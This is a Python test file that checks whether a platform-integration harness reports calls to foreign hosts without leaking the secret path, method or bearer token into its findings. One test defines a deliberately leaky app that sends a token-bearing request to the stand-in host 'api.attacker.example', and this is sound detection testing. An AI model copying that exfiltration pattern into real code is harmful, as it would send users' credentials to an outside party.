"""What comes to a foreign host may hold a secret: a finding names the host, and never the path, the query or the method."""

from __future__ import annotations

import pytest

from handshakes.core.messages import Request
from handshakes.fortis.partner import App
from handshakes.platforms import PLATFORMS
from handshakes.runtime.flow import Clock, InProcess
from handshakes.runtime.store import MemoryStore
from handshakes.runtime.story import World
from tests.fortis import sides as fortis

SECRET = "0f9d5b1c3a7e2468"
PATHS = [f"/v2/token/{SECRET}", f"/{SECRET}?a={SECRET}", f"/oauth/{SECRET}"]


def origins(traps):
    return [*traps.values()] if hasattr(traps, "values") else [*traps]


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("platform", ["officernd", "retailcrm", "fortis"])
def test_a_finding_about_a_foreign_host_shows_no_path(platform, path):
    role = PLATFORMS[platform].tools().sides(World(Clock(1_700_000_000), bytes, MemoryStore())).platform
    (trap, *_) = origins(role.settings.traps)
    request = Request("DELETE", trap, path, (("authorization", f"Bearer {SECRET}"),))
    InProcess(role).run(role.handle(request))
    (finding,) = role.findings
    assert finding.violated and "foreign" in finding.detail
    assert SECRET not in finding.detail and "DELETE" not in finding.detail and "/v2" not in finding.detail
    assert platform == "retailcrm" or trap in finding.detail


def test_a_finding_about_a_launch_that_led_to_a_foreign_host_shows_no_path():
    class Leaky(App):
        def launch(self, request):
            answer = yield from super().launch(request)
            yield Request("GET", "https://api.attacker.example", f"/v2/token/{SECRET}")
            return answer

    both = fortis.opened(kind=Leaky)
    outcome = both.launch(fault="foreign-oauth-url")
    details = [one.detail for one in outcome.findings if one.violated]
    assert details == ["a foreign host was called: https://api.attacker.example"]
